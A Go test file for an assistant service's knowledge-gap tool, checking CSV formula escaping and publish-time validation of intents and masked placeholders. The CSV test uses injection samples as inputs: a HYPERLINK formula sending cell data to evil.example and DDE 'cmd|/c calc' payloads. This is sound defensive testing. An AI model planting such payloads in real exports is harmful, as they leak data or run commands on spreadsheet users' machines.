package gap_test

import (
	"encoding/csv"
	"os"
	"strings"
	"testing"

	"github.com/assistd/assist"
	"github.com/assistd/assist/gap"
)

// A knowledge manager opening the export in a spreadsheet sees customers'
// and reviewers' text as text: a cell that starts like a formula (= + - @,
// tab, CR) is prefixed with ', so HYPERLINK or DDE never runs; other
// text and the numbers are left as they are.
func TestWriteCSVNeutralisesFormulas(t *testing.T) {
	c := &gap.Cluster{ID: "c1", Status: gap.StatusOpen, Lang: "en", Intent: "-intent", Size: 2, Score: 6,
		Question:       `=HYPERLINK("http://evil.example/?"&A1,"click for zorblax refund")`,
		Questions:      []string{"+cmd|'/c calc'!A1 qwzx planet gift", "plain question"},
		ProposedAnswer: "@SUM(1+1)*cmd|' /C calc'!A0",
		Answer:         "\t=1+1",
		ReviewedBy:     "\r=2+2",
		PublishedDoc:   "ok: a normal value",
	}
	var b strings.Builder
	if err := gap.WriteCSV(&b, []*gap.Cluster{c}); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
	if err != nil || len(rows) != 2 {
		t.Fatalf("CSV %q: %v", b.String(), err)
	}
	row := map[string]string{}
	for i, h := range rows[0] {
		row[h] = rows[1][i]
	}
	want := map[string]string{
		"intent":          "'-intent",
		"question":        `'=HYPERLINK("http://evil.example/?"&A1,"click for zorblax refund")`,
		"questions":       "'+cmd|'/c calc'!A1 qwzx planet gift | plain question",
		"proposed_answer": "'@SUM(1+1)*cmd|' /C calc'!A0",
		"answer":          "'\t=1+1",
		"reviewed_by":     "'\r=2+2",
		"published_doc":   "ok: a normal value",
		"size":            "2",
		"score":           "6.000",
		"id":              "c1",
	}
	for k, v := range want {
		if row[k] != v {
			t.Errorf("%s = %q, want %q", k, row[k], v)
		}
	}
}

// A cluster labelled, before labels were checked, with an intent the
// model does not know is not published: the label would become a junk
// class in the training data. Nothing is ingested or written.
func TestPublishRefusesAnIntentNotInTheCatalog(t *testing.T) {
	e := newEnv(t)
	ctx := t.Context()
	c := &gap.Cluster{ID: "c-junk", TenantID: tenant, Status: gap.StatusAccepted, Lang: "en", Intent: "../../etc",
		Question: "Do you sell zorblax gift cards?", Answer: "No, we do not.", Questions: []string{"Do you sell zorblax gift cards?"}}
	if err := e.store.PutCluster(ctx, c); err != nil {
		t.Fatal(err)
	}
	if _, err := e.svc.Publish(ctx, tenant, c.ID, "kate"); assist.ErrorCode(err) != assist.EINVALID || !strings.Contains(err.Error(), "intent") {
		t.Fatalf("Publish = %v, want EINVALID about the intent", err)
	}
	if len(e.pub.docs) != 0 {
		t.Errorf("published %d documents", len(e.pub.docs))
	}
	if _, err := os.Stat(e.svc.TrainingData); !os.IsNotExist(err) {
		t.Errorf("training data written (%v)", err)
	}
	fix := "product_inquiry"
	if _, err := e.svc.Accept(ctx, tenant, c.ID, "kate", gap.Edit{Intent: &fix}); err != nil {
		t.Fatal(err)
	}
	if p, err := e.svc.Publish(ctx, tenant, c.ID, "kate"); err != nil || p.Training == 0 {
		t.Errorf("after fixing the intent: %+v, %v", p, err)
	}
}

// An agent's reply is masked when it is recorded, so a proposed answer can
// hold "[EMAIL_1]" where the agent wrote the shop's address. Published as
// it is, customers would read the placeholder: the manager must write the
// real text in first (with an edit that accepts it).
func TestPublishRefusesAnAnswerWithAMaskedValue(t *testing.T) {
	e := newEnv(t)
	ctx := t.Context()
	c := &gap.Cluster{ID: "c-mail", TenantID: tenant, Status: gap.StatusAccepted, Lang: "en", Intent: "product_inquiry",
		Question: "Can I sell my own products on your shop?", Answer: "Write to [EMAIL_1] with your company licence.",
		Questions: []string{"Can I sell my own products on your shop?"}}
	if err := e.store.PutCluster(ctx, c); err != nil {
		t.Fatal(err)
	}
	_, err := e.svc.Publish(ctx, tenant, c.ID, "kate")
	if assist.ErrorCode(err) != assist.EINVALID || !strings.Contains(err.Error(), "[EMAIL_1]") {
		t.Fatalf("Publish = %v, want EINVALID naming [EMAIL_1]", err)
	}
	if len(e.pub.docs) != 0 {
		t.Fatalf("published %d documents", len(e.pub.docs))
	}
	fixed := "Write to partners@shop.example with your company licence."
	if _, err := e.svc.Accept(ctx, tenant, c.ID, "kate", gap.Edit{Answer: &fixed}); err != nil {
		t.Fatal(err)
	}
	if _, err := e.svc.Publish(ctx, tenant, c.ID, "kate"); err != nil {
		t.Fatalf("after the edit: %v", err)
	}
	if len(e.pub.docs) != 1 || !strings.Contains(e.pub.docs[0].Chunks[0].Answer, "partners@shop.example") {
		t.Errorf("published %+v", e.pub.docs)
	}
}
